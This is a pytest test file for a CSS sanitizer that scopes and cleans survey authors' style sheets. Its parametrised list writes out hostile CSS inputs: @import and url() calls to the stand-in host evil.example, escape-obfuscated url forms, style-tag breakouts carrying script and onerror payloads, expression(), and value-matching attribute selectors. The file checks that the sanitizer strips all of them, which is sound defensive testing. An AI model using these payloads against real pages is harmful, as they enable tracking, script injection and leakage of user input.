"""An author's style sheet: what it may do, and what never gets through."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from heardwell.collect.surveys.sheet import MOST_BYTES, PARTS, clean

#: What a clean sheet is made of; nothing in it can end the element it stands in, fetch, or run.
HARMLESS = re.compile(r"[\w\s.,:;#%(){}>/+*\"-]*")


def test_known_parts_take_known_properties_inside_the_survey():
    sheet = clean(".question .title:hover, .button { color: #FF0000; padding: 4px 1.50em }")

    assert sheet.css == ".hw .q .t:hover,.hw .go{color:#FF0000;padding:4px 1.5em}"
    assert sheet.notes == []


def test_functions_of_colour_and_calculation_are_kept():
    sheet = clean(
        ".card { background: linear-gradient(45deg, oklch(60% 0.1 195 / 50%), rgb(0 0 0)); gap: calc(2px + 1em) }"
    )

    assert "linear-gradient(45deg, oklch(60% 0.1 195 / 50%), rgb(0 0 0))" in sheet.css
    assert "gap:calc(2px  +  1em)" in sheet.css


def test_fonts_of_any_script_may_be_named():
    assert (
        clean('.survey { font-family: "思源黑体", Georgia, serif }').css
        == '.hw{font-family:"思源黑体", Georgia, serif}'
    )


@pytest.mark.parametrize(
    "attack",
    [
        "@import 'https://evil.example/x.css';",
        "@import url(//evil.example/x.css);",
        "@font-face { font-family: x; src: url(https://evil.example/f) }",
        "@namespace svg url(http://www.w3.org/2000/svg);",
        "@charset 'utf-7'; .card { color: red }",
        "@media all { .card { background: url(https://evil.example/) } }",
        "@supports (x: url(https://evil.example)) { .card { color: red } }",
        ".card { background: url(https://evil.example/track) }",
        ".card { background: URL('https://evil.example/track') }",
        ".card { background: u\\72l(https://evil.example/track) }",
        ".card { background: \\75 \\72 \\6c (https://evil.example/track) }",
        ".card { background-image: image-set('https://evil.example/a.png' 1x) }",
        ".card { background-image: -webkit-image-set(url(https://evil.example/) 1x) }",
        ".card { background: src('https://evil.example/') }",
        ".card { background: var(--x) }",
        ".card { --x: url(https://evil.example/) }",
        ".card { color: env(safe-area) }",
        ".card { color: attr(data-x) }",
        ".card { background: element(#secret) }",
        ".card { background: cross-fade(url(//evil.example/), red) }",
        ".card { width: expression(alert(1)) }",
        ".card { behavior: url(x.htc) }",
        ".card { -moz-binding: url(x.xml#a) }",
        ".card { content: 'You have won' }",
        ".title::before { color: red }",
        ".card { position: fixed; inset: 0; z-index: 9999 }",
        ".card { display: none; visibility: hidden; opacity: 0 }",
        ".card { transform: translate(100px); margin: -999px }",
        ".card { box-shadow: 0 0 0 9999px black }",
        ".card { padding: 1e9px }",
        ".card { padding: 100vi }",
        ".card { cursor: none; pointer-events: none }",
        ".card { outline: 0 }",
        ".button { animation: x 1s infinite }",
        "body { color: red }",
        "* { color: red }",
        "input[value^='a'] { background: red }",
        ".field[value$='a'] { color: red }",
        ".question:has(input) { color: red }",
        ".question:not(.x) { color: red }",
        ":root { color: red }",
        ":host { color: red }",
        ".hw { color: red }",
        ".card ~ .footer { color: red }",
        ".card { color: red } </style><script>window.__x=1</script>",
        ".card { color: </style><img src=x onerror=alert(1)> }",
        ".card { font-family: '</style><script>window.__x=1</script>' }",
        ".card { font-family: 'a\\3c /style\\3e ' }",
        "<!-- .card { color: red } -->",
        ".card { color: red; } /* </style> */ .card { background: url(x) }",
        ".card { color: javascript:alert(1) }",
        ".card { filter: url(#x) }",
        ".card { color: rgb(url(https://evil.example/)) }",
        ".card { color: calc(((((((1px))))))) }",
        ".card { color: red\x00; background: u\x00rl(x) }",
        ".card { color: red }\x0c@import 'x';",
        "}}}} .card { background: url(x) }",
        ".card { .title { background: url(x) } }",
        ".card { background: 'x' url(}",
    ],
)
def test_nothing_fetches_runs_covers_or_leaves_the_survey(attack: str):
    css, notes = clean(attack)

    assert HARMLESS.fullmatch(css)
    assert not re.search(
        r"url|import|@|\\|<|expression|script:|var\(|evil|position|display|content", css, re.IGNORECASE
    )
    assert all(selector.startswith(".hw") for rule in css.splitlines() for selector in rule.split("{")[0].split(","))
    assert css == ".hw .card{color:red}" or (css == "" and notes)


_PIECES = [
    *"abcurl.{}():;@\\/*'\"<>!-,#&%= \n\x00é",
    *(f".{part}" for part in PARTS),
    "url(",
    "@import ",
    "color:",
    "rgb(",
]


@given(st.lists(st.sampled_from(_PIECES), max_size=60).map("".join))
def test_whatever_is_typed_comes_out_harmless(text: str):
    assert HARMLESS.fullmatch(clean(text).css)
    assert HARMLESS.fullmatch(clean(f".card {{ color: {text} }}").css)


@pytest.mark.parametrize(
    "seed", ["(", ".card{", "calc(", ".card{color:rgb(", "/*", '"', "@media{", ",", ".card .card "]
)
def test_no_sheet_takes_long_or_too_deep(seed: str):
    started = time.thread_time()

    assert HARMLESS.fullmatch(clean((seed * MOST_BYTES)[:MOST_BYTES]).css)

    assert time.thread_time() - started < 2


def test_a_sheet_that_is_too_large_is_left_out_whole():
    assert clean("é" * MOST_BYTES).css == ""


def test_notes_say_what_was_left_out_and_where():
    notes = clean(".card { color: red;\n position: fixed }\nbody { color: red }").notes

    assert notes == ["Line 2, left out: position", "Line 3, left out: body"]
